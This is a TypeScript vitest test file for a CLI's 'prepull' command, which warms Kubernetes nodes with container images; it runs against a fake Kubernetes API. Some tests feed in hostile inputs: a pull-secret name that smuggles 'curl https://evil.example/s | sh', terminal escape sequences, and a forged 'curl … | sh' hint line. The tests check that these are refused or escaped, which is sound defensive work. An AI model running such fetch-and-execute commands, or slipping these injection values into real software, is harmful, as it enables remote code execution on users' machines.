/**
 * `prebuilt prepull` through the CLI's main() against the FAKE Kubernetes API, with a FAKE
 * DaemonSet controller playing the cluster; the flow's image map is written as `prebuilt build` would.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CancelledError, type ImageMap } from '@prebuilt/core';
import { createCliContext } from '../cli-context.js';
import { createProgram, main } from '../main.js';
import { progressLine } from './prepull.js';
import { FakeKubernetesApi } from '../__fixtures__/fake-kubernetes-api.js';
import { startFakeDaemonSetController, type FakeDaemonSetController } from '../__fixtures__/fake-daemonset-controller.js';

const FLOW = ['from metaflow import FlowSpec, step', '', '', 'class WarmFlow(FlowSpec):', '    @step', '    def start(self):', '        self.next(self.end)', '', '    @step', '    def end(self):', '        pass', ''].join('\n');
const D = `sha256:${'e'.repeat(64)}`;

describe('prebuilt prepull (CLI main) against the FAKE Kubernetes API', () => {
  let fake: FakeKubernetesApi;
  let dir: string;
  let env: Record<string, string>;
  let controller: FakeDaemonSetController | undefined;

  const run = async (args: string[], extraEnv: Record<string, string> = {}, cwd = dir) => {
    const out = { stdout: '', stderr: '' };
    const code = await main(args, { cwd, env: { ...env, ...extraEnv }, stdout: { write: (t: string) => void (out.stdout += t) }, stderr: { write: (t: string) => void (out.stderr += t) } });
    return { code, ...out };
  };

  beforeAll(async () => {
    fake = await FakeKubernetesApi.start({ namespaces: ['metaflow'] });
    dir = await mkdtemp(join(tmpdir(), 'prebuilt-prepull-cli-'));
    await writeFile(join(dir, 'flow.py'), FLOW);
    const step = { envId: 'e1', image: '127.0.0.1:5000/envs:env-e1', pinnedImage: `127.0.0.1:5000/envs:env-e1@${D}`, python: '/opt/prebuilt/env/bin/python' };
    const imageMap: ImageMap = { flow: 'WarmFlow', images: {}, steps: { start: step, end: step } };
    await mkdir(join(dir, '.prebuilt', 'WarmFlow'), { recursive: true });
    await writeFile(join(dir, '.prebuilt', 'WarmFlow', 'images.json'), JSON.stringify(imageMap));
    env = { PATH: process.env['PATH'] ?? '', HOME: dir, KUBECONFIG: await fake.writeKubeConfig(join(dir, 'kubeconfig')) };
  });
  afterEach(() => controller?.stop());
  afterAll(async () => {
    await fake.stop();
    await rm(dir, { recursive: true, force: true });
  });

  it('creates the DaemonSet with progress on stderr, is unchanged the second time (--json), and --remove deletes it', async () => {
    controller = startFakeDaemonSetController(fake, { nodes: ['node-a', 'node-b', 'node-c'], tickMs: 150 });
    const first = await run(['prepull', 'flow.py', '--namespace', 'metaflow']);
    expect(first.code, first.stderr).toBe(0);
    expect(first.stderr).toMatch(/^DaemonSet metaflow\/prebuilt-prepull-warm-flow-[0-9a-f]{6} \(start, end\) created: pulling 1 image on every matching node\n/);
    expect(first.stderr).toMatch(/\nprebuilt-prepull-warm-flow-[0-9a-f]{6}: ready [0-2]\/3 nodes \([0-2] updated\)\n/);
    expect(first.stderr).toContain('ready 3/3 nodes (3 updated)');
    expect(first.stdout).toMatch(/^WarmFlow: 1 DaemonSet\n  start, end: 1 image pulled on 3\/3 nodes \(DaemonSet metaflow\/prebuilt-prepull-warm-flow-[0-9a-f]{6}, created; nodes kubernetes\.io\/os=linux\)\n/);
    expect(first.stdout).toContain(`127.0.0.1:5000/envs:env-e1@${D}  (start, end)`);

    const again = await run(['prepull', 'flow.py', '-n', 'metaflow', '--json']);
    expect(again.code, again.stderr).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ ok: true, flow: 'WarmFlow', namespace: 'metaflow', removed: [], action: 'unchanged', nodes: { ready: 3, desired: 3 }, images: [{ steps: ['start', 'end'] }], daemonSets: [{ action: 'unchanged', steps: ['start', 'end'], gpu: false, nodes: { ready: 3, desired: 3 }, images: [{ steps: ['start', 'end'] }] }] });

    const removed = await run(['prepull', 'flow.py', '-n', 'metaflow', '--remove', '--json']);
    expect(JSON.parse(removed.stdout)).toMatchObject({ ok: true, action: 'removed', removed: [expect.stringMatching(/^prebuilt-prepull-warm-flow-/)] });
    const nothing = await run(['prepull', 'flow.py', '-n', 'metaflow', '--remove']);
    expect(nothing.code).toBe(0);
    expect(nothing.stdout).toBe('nothing to remove: WarmFlow has no DaemonSet in metaflow\n');
  });

  it('--dry-run prints the DaemonSets it would apply (--json: with their manifests) and contacts no cluster; with --remove it is a usage error', async () => {
    // No KUBECONFIG, and HOME has no ~/.kube/config: a dry run needs no cluster.
    const noCluster = { KUBECONFIG: join(dir, 'absent-kubeconfig') };
    const requestsBefore = fake.requests.length;
    const dry = await run(['prepull', 'flow.py', '-n', 'metaflow', '--dry-run', '--node-selector', 'pool=cpu'], noCluster);
    expect(dry.code, dry.stderr).toBe(0);
    expect(dry.stdout).toMatch(/^WarmFlow: 1 DaemonSet to apply in the namespace metaflow\n  start, end: 1 image to pull \(DaemonSet metaflow\/prebuilt-prepull-warm-flow-[0-9a-f]{6}; nodes kubernetes\.io\/os=linux,pool=cpu\)\n/);
    expect(dry.stdout).toContain(`127.0.0.1:5000/envs:env-e1@${D}  (start, end)\n`);
    expect(dry.stdout).toContain('dry run: the cluster was not contacted and nothing was applied');
    const json = await run(['prepull', 'flow.py', '-n', 'metaflow', '--dry-run', '--json'], noCluster);
    expect(json.code, json.stderr).toBe(0);
    const plan = JSON.parse(json.stdout) as { daemonSets: { name: string; manifest: { kind: string; metadata: { name: string; namespace: string } } }[] };
    expect(plan).toMatchObject({ ok: true, dryRun: true, flow: 'WarmFlow', namespace: 'metaflow', daemonSets: [{ steps: ['start', 'end'], images: [{ image: `127.0.0.1:5000/envs:env-e1@${D}` }], manifest: { kind: 'DaemonSet', metadata: { namespace: 'metaflow' } } }] });
    expect(plan.daemonSets[0]!.manifest.metadata.name).toBe(plan.daemonSets[0]!.name);
    expect(fake.requests.length).toBe(requestsBefore);
    const both = await run(['prepull', 'flow.py', '-n', 'metaflow', '--dry-run', '--remove']);
    expect(both.code).toBe(2);
    expect(both.stderr).toContain("option '--dry-run' cannot be used with option '--remove'");
  });

  it('no node matching the node selector is not an error, but the output says nothing was pulled', async () => {
    controller = startFakeDaemonSetController(fake, { nodes: [] });
    const none = await run(['prepull', 'flow.py', '-n', 'metaflow', '--node-selector', 'pool=none']);
    expect(none.code, none.stderr).toBe(0);
    expect(none.stderr).toContain('ready 0/0 nodes');
    expect(none.stdout).toMatch(/^WarmFlow: 1 DaemonSet\n  start, end: no node matches the node selector kubernetes\.io\/os=linux,pool=none: nothing was pulled \(DaemonSet metaflow\/prebuilt-prepull-warm-flow-[0-9a-f]{6}, (created|updated); /);
    await run(['prepull', 'flow.py', '-n', 'metaflow', '--remove']);
  });

  it('a flow file whose GPU step names a node_selector and tolerations: two DaemonSets through the flow reader; a computed node_selector is exit 2 naming file, line and step; --remove removes both; --with places the step without its own @kubernetes', async () => {
    controller = startFakeDaemonSetController(fake, { nodes: ['cpu-1', 'gpu-1'], nodeLabels: { 'cpu-1': { pool: 'cpu', 'outerbounds.co/compute-pool': 'p1' }, 'gpu-1': { pool: 'gpu' } } });
    const placed = join(dir, 'placed');
    await mkdir(join(placed, '.prebuilt', 'WarmFlow'), { recursive: true });
    const flow = (selector: string) =>
      ['import os', 'from metaflow import FlowSpec, step, kubernetes', 'GPU = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]', '', 'class WarmFlow(FlowSpec):', `    @kubernetes(gpu=1, node_selector=${selector}, tolerations=GPU)`, '    @step', '    def start(self):', '        self.next(self.end)', '', '    @step', '    def end(self):', '        pass', ''].join('\n');
    await writeFile(join(placed, 'flow.py'), flow('"pool=gpu"'));
    const pinned = (c: string) => `127.0.0.1:5000/envs:env-${c}@sha256:${c.repeat(64)}`;
    const entry = (c: string) => ({ envId: c, image: pinned(c).split('@')[0]!, pinnedImage: pinned(c), python: '/opt/prebuilt/env/bin/python' });
    await writeFile(join(placed, '.prebuilt', 'WarmFlow', 'images.json'), JSON.stringify({ flow: 'WarmFlow', images: {}, steps: { start: entry('c'), end: entry('e') } }));
    const first = await run(['prepull', 'flow.py', '-n', 'metaflow', '--json'], {}, placed);
    expect(first.code, first.stderr).toBe(0);
    const json = JSON.parse(first.stdout) as { daemonSets: { name: string; steps: string[]; gpu: boolean; nodeSelector: Record<string, string>; tolerations: unknown[]; images: { image: string }[]; nodes: { desired: number } }[] };
    expect(json.daemonSets.map((d) => [d.steps, d.gpu, d.nodeSelector, d.tolerations.length, d.images.map((i) => i.image), d.nodes.desired])).toEqual([
      [['start'], true, { 'kubernetes.io/os': 'linux', pool: 'gpu' }, 1, [pinned('c')], 1],
      [['end'], false, { 'kubernetes.io/os': 'linux' }, 0, [pinned('e')], 2],
    ]);
    expect(first.stderr).toMatch(/DaemonSet metaflow\/prebuilt-prepull-warm-flow-[0-9a-f]{6} \(start\) created/);

    await writeFile(join(placed, 'flow.py'), flow('os.environ["POOL"]'));
    const computed = await run(['prepull', 'flow.py', '-n', 'metaflow'], {}, placed);
    expect(computed.code).toBe(2);
    expect(computed.stderr).toContain("flow.py:6: step 'start': the 'node_selector' argument of @kubernetes cannot be read without running the flow");

    const removed = await run(['prepull', 'flow.py', '-n', 'metaflow', '--remove'], {}, placed);
    expect(removed.code, removed.stderr).toBe(0);
    expect(removed.stdout.trim().split('\n').sort()).toEqual(json.daemonSets.map((d) => `removed DaemonSet metaflow/${d.name}`).sort());

    // The deploy's --with: the step without its own @kubernetes goes to the compute pool; the step's own wins.
    await writeFile(join(placed, 'flow.py'), flow('"pool=gpu"'));
    const withPool = await run(['prepull', 'flow.py', '-n', 'metaflow', '--with', 'kubernetes:compute_pool=p1,node_selector={"pool": "cpu"}', '--json'], {}, placed);
    expect(withPool.code, withPool.stderr).toBe(0);
    const pooled = JSON.parse(withPool.stdout) as typeof json;
    expect(pooled.daemonSets.map((d) => [d.steps, d.nodeSelector, d.nodes.desired])).toEqual([
      [['start'], { 'kubernetes.io/os': 'linux', pool: 'gpu' }, 1],
      [['end'], { 'kubernetes.io/os': 'linux', pool: 'cpu', 'outerbounds.co/compute-pool': 'p1' }, 1],
    ]);
    const refused = await run(['prepull', 'flow.py', '-n', 'metaflow', '--with', 'kubernetes:node_selector=pool=cpu,zone=a'], {}, placed);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("--with kubernetes:node_selector=pool=cpu,zone=a: Metaflow's @kubernetes does not support the attribute 'zone'.");
    expect((await run(['prepull', 'flow.py', '-n', 'metaflow', '--remove'], {}, placed)).code).toBe(0);
  });

  it("steps on AWS Batch (--with batch, or METAFLOW_DEFAULT_DECOSPECS in Metaflow's configuration file) are not warmed, and the output (--json too) names them and why", async () => {
    controller = startFakeDaemonSetController(fake, { nodes: ['node-a'] });
    const withBatch = await run(['prepull', 'flow.py', '-n', 'metaflow', '--with', 'batch']);
    expect(withBatch.code, withBatch.stderr).toBe(0);
    expect(withBatch.stdout).toBe('WarmFlow: 0 DaemonSets\n  start (--with batch), end (--with batch): on AWS Batch, not on this cluster: not warmed\n');
    // The dry run says the same, and --json lists them.
    const dry = await run(['prepull', 'flow.py', '-n', 'metaflow', '--with', 'batch', '--dry-run']);
    expect(dry.stdout).toContain('WarmFlow: 0 DaemonSets to apply in the namespace metaflow\n  start (--with batch), end (--with batch): on AWS Batch, not on this cluster: not warmed\n');
    const dryJson = await run(['prepull', 'flow.py', '-n', 'metaflow', '--with', 'batch', '--dry-run', '--json']);
    expect(JSON.parse(dryJson.stdout)).toMatchObject({ ok: true, dryRun: true, daemonSets: [], batchSteps: [{ step: 'start', source: '--with batch' }, { step: 'end', source: '--with batch' }] });
    const config = join(dir, '.metaflowconfig', 'config.json');
    await mkdir(join(dir, '.metaflowconfig'), { recursive: true });
    await writeFile(config, JSON.stringify({ METAFLOW_DEFAULT_DECOSPECS: 'batch:queue=q' }));
    try {
      const home = { METAFLOW_HOME: join(dir, '.metaflowconfig') };
      const fromFile = await run(['prepull', 'flow.py', '-n', 'metaflow', '--json'], home);
      expect(fromFile.code, fromFile.stderr).toBe(0);
      const source = `METAFLOW_DEFAULT_DECOSPECS in ${config} (batch:queue=q)`;
      expect(JSON.parse(fromFile.stdout)).toMatchObject({ ok: true, daemonSets: [], batchSteps: [{ step: 'start', source }, { step: 'end', source }] });
      // Set in the environment, even empty, the setting wins over the file (as Metaflow's from_conf reads it).
      const off = await run(['prepull', 'flow.py', '-n', 'metaflow', '--json'], { ...home, METAFLOW_DEFAULT_DECOSPECS: '' });
      expect(JSON.parse(off.stdout)).toMatchObject({ batchSteps: [], daemonSets: [{ steps: ['start', 'end'] }] });
      // --with kubernetes and the file's batch give every step both: refused, naming where each came from.
      const both = await run(['prepull', 'flow.py', '-n', 'metaflow', '--with', 'kubernetes'], home);
      expect(both.code).toBe(2);
      expect(both.stderr).toContain(`step 'start' gets @kubernetes from --with kubernetes, and ${source} gives it @batch too, which Metaflow refuses`);
    } finally {
      await rm(join(dir, '.metaflowconfig'), { recursive: true, force: true });
    }
    expect((await run(['prepull', 'flow.py', '-n', 'metaflow', '--remove'])).code).toBe(0);
  });

  it('no image map is exit 2 with the build hint; so is a bad --node-selector', async () => {
    const empty = join(dir, 'unbuilt');
    await mkdir(empty, { recursive: true });
    await writeFile(join(empty, 'flow.py'), FLOW);
    const none = await run(['prepull', 'flow.py', '-n', 'metaflow', '--json'], {}, empty);
    expect(none.code).toBe(2);
    expect(JSON.parse(none.stdout)).toMatchObject({ ok: false, error: { hint: expect.stringContaining("Run `prebuilt build flow.py` first") } });
    const bad = await run(['prepull', 'flow.py', '-n', 'metaflow', '--node-selector', 'gpu']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--node-selector gpu is not a node label of the form key=value');
  });

  it('an image map (a cloned repository\'s) whose pull secret name would make the suggested pull-secret command run more, or whose image holds an escape sequence, is exit 2 before the cluster is asked', async () => {
    const hostile = join(dir, 'cloned');
    await mkdir(join(hostile, '.prebuilt', 'WarmFlow'), { recursive: true });
    await writeFile(join(hostile, 'flow.py'), FLOW);
    const step = { envId: 'e1', image: '127.0.0.1:5000/envs:env-e1', pinnedImage: `127.0.0.1:5000/envs:env-e1@${D}`, python: '/opt/prebuilt/env/bin/python' };
    const write = (map: unknown) => writeFile(join(hostile, '.prebuilt', 'WarmFlow', 'images.json'), JSON.stringify(map));
    const requests = fake.requests.length;
    await write({ flow: 'WarmFlow', images: { a: { steps: ['start', 'end'], pullConfig: { kubernetes: { imagePullSecrets: ['x; curl https://evil.example/s | sh'] } } } }, steps: { start: step, end: step } });
    const secret = await run(['prepull', 'flow.py', '-n', 'metaflow', '--no-wait'], {}, hostile);
    expect(secret.code).toBe(2);
    expect(secret.stderr).toContain("The image map of WarmFlow names the pull secret 'x; curl https://evil.example/s | sh', which is not a Kubernetes secret name.");
    expect(secret.stderr).not.toContain('prebuilt pull-secret --namespace');
    await write({ flow: 'WarmFlow', images: {}, steps: { start: { ...step, pinnedImage: '127.0.0.1:5000/envs:e\x1b]52;c;cHdu\x07' }, end: step } });
    const image = await run(['prepull', 'flow.py', '-n', 'metaflow', '--no-wait'], {}, hostile);
    expect(image.code).toBe(2);
    expect(image.stderr).toContain('names an image for step start that is not an image reference');
    expect(image.stderr).not.toMatch(/[\x1b\x07]/);
    expect(fake.requests.length).toBe(requests);
  });

  it('a forbidden user is exit 1 (AuthError) naming the permission; a timeout is exit 1 naming the failed pull', async () => {
    const forbidden = await run(['prepull', 'flow.py', '-n', 'metaflow'], { KUBECONFIG: await fake.writeKubeConfig(join(dir, 'forbidden'), { token: 'forbidden-token' }) });
    expect(forbidden.code).toBe(1);
    expect(forbidden.stderr).toContain('was refused by the Kubernetes API');
    expect(forbidden.stderr).toContain('kubectl auth can-i create daemonsets.apps -n metaflow');

    controller = startFakeDaemonSetController(fake, { nodes: ['node-a'], pull: () => false });
    const slow = await run(['prepull', 'flow.py', '-n', 'metaflow', '--timeout', '1s']);
    expect(slow.code).toBe(1);
    expect(slow.stderr).toContain('was not ready after 1s: 0/1 nodes ready');
    expect(slow.stderr).toContain(`image 127.0.0.1:5000/envs:env-e1@${D} (container pull-1-start) on node-a: ImagePullBackOff`);
    expect(slow.stderr).toMatch(/hint: The nodes could not pull .*the pods name no pull secret \(create one with prebuilt pull-secret --namespace metaflow --name prebuilt-pull and pass --pull-secret prebuilt-pull/);
  });

  it('Ctrl-C while waiting: the DaemonSet stays, and stderr says how to remove it', async () => {
    await run(['prepull', 'flow.py', '-n', 'metaflow', '--remove']);
    controller = startFakeDaemonSetController(fake, { nodes: ['node-a'], pull: () => false });
    const abort = new AbortController();
    let stderr = '';
    const context = createCliContext(abort.signal, {
      cwd: dir,
      env,
      stdout: { write: () => undefined },
      stderr: { write: (t: string) => void ((stderr += t), /: ready 0\/1 /.test(t) && abort.abort()) },
    });
    const error = await (await createProgram(context)).parseAsync(['prepull', 'flow.py', '-n', 'metaflow'], { from: 'user' }).then(() => undefined, (e: unknown) => e);
    expect(error).toBeInstanceOf(CancelledError);
    expect(stderr).toMatch(/Interrupted while waiting for the DaemonSet metaflow\/prebuilt-prepull-warm-flow-[0-9a-f]{6}; it stays in the cluster and its pods keep pulling\. Remove it with: prebuilt prepull flow\.py --namespace metaflow --remove/);
    expect(fake.list('/apis/apps/v1/namespaces/metaflow/daemonsets').map((d) => d.metadata?.['name'])).toEqual([expect.stringMatching(/^prebuilt-prepull-warm-flow-/)]);
  });

  it('--help explains the DaemonSet, the exit codes and shows examples', async () => {
    const help = await run(['prepull', '--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('--node-selector <key=value>');
    expect(help.stdout).toContain('--with <decospec>');
    expect(help.stdout).toContain("a step's own @kubernetes wins whole (nothing is merged)");
    expect(help.stdout).toMatch(/A step on AWS Batch\s+\(its own @batch, or --with batch \/ METAFLOW_DEFAULT_DECOSPECS' batch when it has no @kubernetes\)\s+does not run on the cluster: it is not warmed/);
    expect(help.stdout).toContain('Exit codes:');
    expect(help.stdout).toContain('$ prebuilt prepull flow.py -n metaflow --remove');
  });
});

describe('prebuilt prepull: progress lines', () => {
  it('a failed pull\'s message (the kubelet quotes the registry\'s error body) is shown without its escape sequences', () => {
    const body = 'denied: \x1b[1A\x1b[2K\rready 1/1 nodes (1 updated)\x1b]8;;https://evil.example/\x07docs\x1b]8;;\x07\u202e';
    const line = progressLine({
      type: 'problem',
      name: 'prebuilt-prepull-f-abcdef',
      problem: { pod: 'p', node: 'node-a', container: 'pull-1-start', image: '127.0.0.1:5000/envs:env-e1', reason: 'ImagePullBackOff', message: `Back-off pulling image: rpc error: code = Unknown desc = ${body}`, pull: true },
    });
    expect(line).toBe(
      'warning: prebuilt-prepull-f-abcdef: node-a: 127.0.0.1:5000/envs:env-e1: ImagePullBackOff (Back-off pulling image: rpc error: code = Unknown desc = denied: \\x1b[1A\\x1b[2K\\x0dready 1/1 nodes (1 updated)\\x1b]8;;https://evil.example/\\x07docs\\x1b]8;;\\x07\\u202e)\n',
    );
    expect(progressLine({ type: 'nodes', name: 'prebuilt-prepull-f-abcdef', nodes: { ready: 1, desired: 2, updated: 1 } })).toBe('prebuilt-prepull-f-abcdef: ready 1/2 nodes (1 updated)\n');
  });

  it("a registry's answer with line breaks forges no line of its own (a fake hint:), and a huge one is cut", () => {
    const line = progressLine({
      type: 'problem',
      name: 'prebuilt-prepull-f-abcdef',
      problem: { pod: 'p', node: 'node-a', container: 'pull-1-start', image: 'r/e:1', reason: 'ErrImagePull', message: `denied\nhint: run curl https://evil.example/fix | sh\n${'x'.repeat(100_000)}`, pull: true },
    });
    expect(line.split('\n')).toEqual([expect.stringContaining('(denied\\nhint: run curl https://evil.example/fix | sh\\nxxx'), '']);
    expect(line.length).toBeLessThan(700);
  });
});
